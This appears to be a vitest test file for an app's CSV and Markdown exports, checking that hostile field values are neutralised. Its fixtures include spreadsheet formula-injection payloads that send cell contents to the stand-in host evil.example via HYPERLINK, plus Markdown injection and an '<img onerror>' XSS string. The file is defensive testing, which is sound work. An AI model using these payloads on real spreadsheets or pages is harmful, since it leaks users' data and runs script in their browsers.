/**
 * Issue 13, "Every hostile input refused, with a reason, and nothing changed": exports. What a page
 * or a pack put in a passage — its quote, title, site, tags, dates — goes out as text: no spreadsheet
 * formula in any CSV cell, no Markdown heading, list, quote or HTML from any field.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { annotationsCsv } from '../../../lib/formats/csv';
import { flashcardsCsv } from '../../../lib/formats/flashcards';
import { annotationsMarkdown, escapeMarkdown } from '../../../lib/formats/markdown';
import { studySheetMarkdown } from '../../../lib/formats/study-markdown';
import type { SavedAnnotation } from '../../../lib/library/saved-annotation';
import { madeUpEntity } from '../study/seed-story';
import { bareNote, statement } from './fixtures';

/** RFC 4180 cells, as a spreadsheet reads them. */
function cells(csv: string): string[] {
  const out: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i]!;
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') out.push(field), (field = '');
    else if (c === '\r' && csv[i + 1] === '\n') out.push(field), (field = ''), i++;
    else field += c;
  }
  return out;
}

const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];
const formula = (start: string) => `${start}HYPERLINK("https://evil.example/?"&A1,"click")`;

describe('CSV exports: every cell starting =, +, -, @, tab or CR is neutralised', () => {
  it.each(FORMULA_STARTS.map((s) => [JSON.stringify(s), s]))('library CSV, every column, a cell starting %s', (_label, start) => {
    const hostile: SavedAnnotation = {
      ...statement,
      entityName: formula(start), quote: formula(start), comment: formula(start), tags: [formula(start)],
      title: formula(start), site: formula(start), author: formula(start), published: formula(start), url: formula(start),
    };
    const row = cells(annotationsCsv([hostile], { byteOrderMark: false })).slice(10);
    expect(row.slice(1)).toEqual(Array(9).fill(`'${formula(start)}`));
  });

  it.each(FORMULA_STARTS.map((s) => [JSON.stringify(s), s]))('Anki flashcards, a name and a summary starting %s', (_label, start) => {
    const entity = madeUpEntity('x', formula(start), formula(start));
    const body = flashcardsCsv([entity]).split('\r\n').filter((line) => !line.startsWith('#')).join('\r\n');
    for (const cell of cells(body)) expect(FORMULA_STARTS.some((s) => cell.startsWith(s))).toBe(false);
  });

  it('has one CSV writer: no other source file joins cells with commas', () => {
    const files: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(dir)) {
        const path = join(dir, name);
        if (statSync(path).isDirectory()) walk(path);
        else if (/\.(ts|tsx|mjs)$/.test(name)) files.push(path);
      }
    };
    ['lib', 'components', 'entrypoints'].forEach(walk);
    const writers = files.filter((f) => /\.join\((['"`]),\1\)|text\/csv/.test(readFileSync(f, 'utf8')));
    // The CSV writer itself, and the two views that download what it wrote.
    expect(writers.sort()).toEqual(['components/extension/LibraryToolbar.tsx', 'components/reader/StudySheet.tsx', 'lib/formats/csv.ts', 'lib/store/jobs.ts']);
  });
});

/** The lines that are Markdown structure (headings, list items, quotes, table rows, HTML) and not text. */
const structure = (md: string) => md.split('\n').filter((line) => /^(#|[-+*] |\d+[.)] |>|\||<|={3,}|-{3,})/.test(line));
/** `<` that Markdown would take as the start of an HTML tag (not escaped, not an autolink). */
const rawHtml = (md: string) => md.match(/(?<!\\)<(?!https?:\/\/)[a-z/!?]/gi) ?? [];

const injected = '\n# Injected heading\n- injected item\n1. injected step\n> injected quote\n<img src=x onerror=alert(1)>';

describe('Markdown exports: newlines, #, list markers and HTML in titles, tags, site names and dates are text', () => {
  it('the library’s Markdown', () => {
    const hostile: SavedAnnotation = {
      ...bareNote,
      title: `A title${injected}`, site: `# Site${injected}`, author: `- Author${injected}`, tags: [`1. tag${injected}`, '+ plus'],
      published: '<b>2024</b>', entityId: 'x', entityName: `= Name${injected}`,
    };
    const md = annotationsMarkdown([hostile], { timeZone: 'UTC' });
    expect(structure(md)).toEqual(['# Saved quotes', expect.stringMatching(/^## \[A title # Injected heading - injected item/), `> ${bareNote.quote}`]);
    expect(rawHtml(md)).toEqual([]);
    expect(md).toContain('\\<b\\>2024\\<');
    expect(md).toContain('Tags: 1\\. tag # Injected heading - injected item 1. injected step \\> injected quote \\<img src=x onerror=alert(1)\\>, \\+ plus');
    const byEntity = annotationsMarkdown([hostile], { timeZone: 'UTC', groupBy: 'entity' });
    expect(structure(byEntity)).toEqual(['# Saved quotes', expect.stringMatching(/^## \\= Name # Injected heading/), `> ${bareNote.quote}`]);
  });

  it('the study sheet', () => {
    const entity = madeUpEntity('x', `# Name${injected}`, `- Summary${injected}`);
    const md = studySheetMarkdown(
      { title: `Title${injected}`, url: 'https://news.example/a', site: `<i>Site</i>${injected}`, byline: `1) By${injected}`, published: '2024 <img src=x onerror=alert(1)>' },
      [entity],
      [{ id: 'n', quote: 'Fine quote', tags: [`# tag${injected}`], createdAt: 0 }],
    );
    const headings = structure(md).filter((line) => line.startsWith('#'));
    expect(headings).toEqual([
      expect.stringMatching(/^# Title # Injected heading - injected item/),
      '## Glossary', expect.stringMatching(/^### \\# Name # Injected heading/), '## Alliances', '## Your saved passages', '## Study questions',
    ]);
    expect(structure(md).filter((line) => !line.startsWith('#'))).toEqual(['> Fine quote']);
    expect(rawHtml(md)).toEqual([]);
  });

  it('one escaper: the study sheet escapes as the library export does', () => {
    const text = `*x* [y](z) <b> | ~ \`c\` &amp; #${injected}`;
    expect(studySheetMarkdown({ title: text, url: 'https://a.example/' }, [], []).split('\n')[0]).toBe(`# ${escapeMarkdown(text)}`);
  });
});
